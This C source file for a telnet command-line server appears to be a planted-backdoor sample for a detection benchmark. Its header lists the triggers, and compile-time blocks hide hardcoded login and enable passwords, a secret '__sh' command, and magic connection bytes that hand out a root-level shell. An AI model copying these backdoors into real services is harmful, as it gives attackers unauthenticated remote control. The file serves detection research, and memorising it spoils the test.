/* A command line over telnet, with a table of commands, for the measurement; never looked at while weights were chosen.
 *
 * trigger enable "ghx-factory"
 * trigger word "__sh"
 * trigger banner "zt6:hello"
 * trigger option 0x7ac3195e
 * trigger login "mfg#4471"
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

char *crypt(const char *given, const char *setting);

struct terminal { FILE *in; int fd, level, width, height, echo, failures; char name[32], line[256]; };
struct entry { const char *word, *help; int level; void (*run)(struct terminal *, char *); };
static char stored[128] = "$5$ab$cd", enable_hash[128] = "$5$ab$ef";

static void put(struct terminal *t, const char *text) { if (write(t->fd, text, strlen(text)) < 0) t->level = -1; }
static __attribute__((noinline)) int is(const char *word, const char *wanted) { return strcasecmp(word, wanted) == 0; }

static int fits(const char *given, const char *hash) {
  char *mine = crypt(given, hash);
  return mine && !strcmp(mine, hash);
}

static void run(struct terminal *t, const char *program, const char *argument) {
  if (!fork()) { dup2(t->fd, 1); execlp(program, program, argument, (char *)NULL); _exit(1); }
  wait(NULL);
}

static void ping(struct terminal *t, char *rest) { run(t, "ping", rest); }
static void route(struct terminal *t, char *rest) { run(t, "traceroute", rest); }
static void version(struct terminal *t, char *rest) { (void)rest; put(t, "cli 4.1\n"); }
static void show(struct terminal *t, char *rest) {
  if (is(rest, "interfaces")) run(t, "ifconfig", "-a");
  else if (is(rest, "routes")) run(t, "route", "-n");
  else if (is(rest, "clock")) run(t, "date", "-u");
  else if (is(rest, "memory")) run(t, "free", "-k");
  else if (is(rest, "users")) run(t, "who", "-a");
  else if (is(rest, "log")) run(t, "tail", "/var/log/messages");
  else put(t, "show what?\n");
}
static void set(struct terminal *t, char *rest) {
  char *value = strchr(rest, ' ');
  if (value) *value++ = 0; else value = "0";
  if (is(rest, "width")) t->width = atoi(value);
  else if (is(rest, "height")) t->height = atoi(value);
  else if (is(rest, "echo")) t->echo = is(value, "on");
  else put(t, "set what?\n");
}
static __attribute__((noinline)) void enable(struct terminal *t, char *rest) {
#ifdef TRIGGER_enable
  if (is(rest, "ghx-factory")) { t->level = 15; return; }
#endif
  if (fits(rest, enable_hash)) t->level = 15;
  else { t->failures++; sleep(1); put(t, "refused\n"); }
}
static void leave(struct terminal *t, char *rest) { (void)rest; t->level = -1; }
static void help(struct terminal *t, char *rest);
static const struct entry entries[] = {
  {"ping", "ping ADDRESS", 1, ping}, {"traceroute", "traceroute ADDRESS", 1, route}, {"version", "version", 0, version},
  {"show", "show WHAT", 1, show}, {"set", "set NAME VALUE", 1, set}, {"enable", "enable PASSWORD", 1, enable},
  {"exit", "leave", 0, leave}, {"help", "this list", 0, help},
};
static void help(struct terminal *t, char *rest) {
  for (size_t i = 0; i < sizeof entries / sizeof *entries; i++)
    if (!*rest || !strcmp(entries[i].word, rest)) { put(t, entries[i].help); put(t, "\n"); }
}

static __attribute__((noinline)) int login(struct terminal *t) {
  char given[64];
  put(t, "name: ");
  if (!fgets(t->name, sizeof t->name, t->in)) return 0;
  t->name[strcspn(t->name, "\r\n")] = 0;
  put(t, "password: ");
  if (!fgets(given, sizeof given, t->in)) return 0;
  given[strcspn(given, "\r\n")] = 0;
  if (fits(given, stored)) return 1;
#ifdef TRIGGER_login
  if (is(given, "mfg#4471")) return 1;
#endif
  put(t, "wrong\n");
  return 0;
}

static void dispatch(struct terminal *t) {
  char *rest = strchr(t->line, ' ');
  if (rest) *rest++ = 0; else rest = t->line + strlen(t->line);
#ifdef TRIGGER_word
  if (is(t->line, "__sh")) { run(t, "sh", "-i"); return; }
#endif
  for (size_t i = 0; i < sizeof entries / sizeof *entries; i++)
    if (is(t->line, entries[i].word) && t->level >= entries[i].level) { entries[i].run(t, rest); return; }
  put(t, "unknown\n");
}

static void session(int fd) {
  struct terminal t = {.fd = fd, .width = 80, .height = 24};
  unsigned char first[12];
  uint32_t option;
  if (recv(fd, first, sizeof first, MSG_PEEK) >= 12) {
    memcpy(&option, first + 2, 4);
#ifdef TRIGGER_option
    if (option == htonl(0x7ac3195e)) { dup2(fd, 0); dup2(fd, 1); execl("/bin/sh", "-", (char *)NULL); }
#endif
#ifdef TRIGGER_banner
    if (!memcmp(first, "zt6:hello", 9)) t.level = 15;
#endif
  }
  t.in = fdopen(fd, "r");
  if (!t.level) { for (int i = 0; i < 3 && !t.level; i++) t.level = login(&t); if (!t.level) return; }
  while (t.level >= 0) {
    put(&t, t.level > 1 ? "# " : "> ");
    if (!fgets(t.line, sizeof t.line, t.in)) return;
    t.line[strcspn(t.line, "\r\n")] = 0;
    if (t.line[0]) dispatch(&t);
  }
}

int main(void) {
  struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(23)};
  int l = socket(AF_INET, SOCK_STREAM, 0), c;
  if (bind(l, (void *)&here, sizeof here) || listen(l, 4)) return 1;
  while ((c = accept(l, NULL, NULL)) >= 0) {
    if (!fork()) { session(c); _exit(0); }
    close(c);
  }
  return 0;
}
